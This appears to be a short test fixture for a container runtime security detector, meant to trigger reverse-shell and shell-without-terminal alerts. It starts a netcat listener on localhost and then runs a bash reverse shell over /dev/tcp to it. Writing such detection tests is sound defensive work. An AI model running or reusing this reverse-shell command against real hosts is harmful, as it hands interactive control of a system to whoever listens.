# in: container
# fires: execution-reverse-shell execution-shell-without-terminal
nc -l -p 4444 < /dev/null &
sleep 0.3
bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'
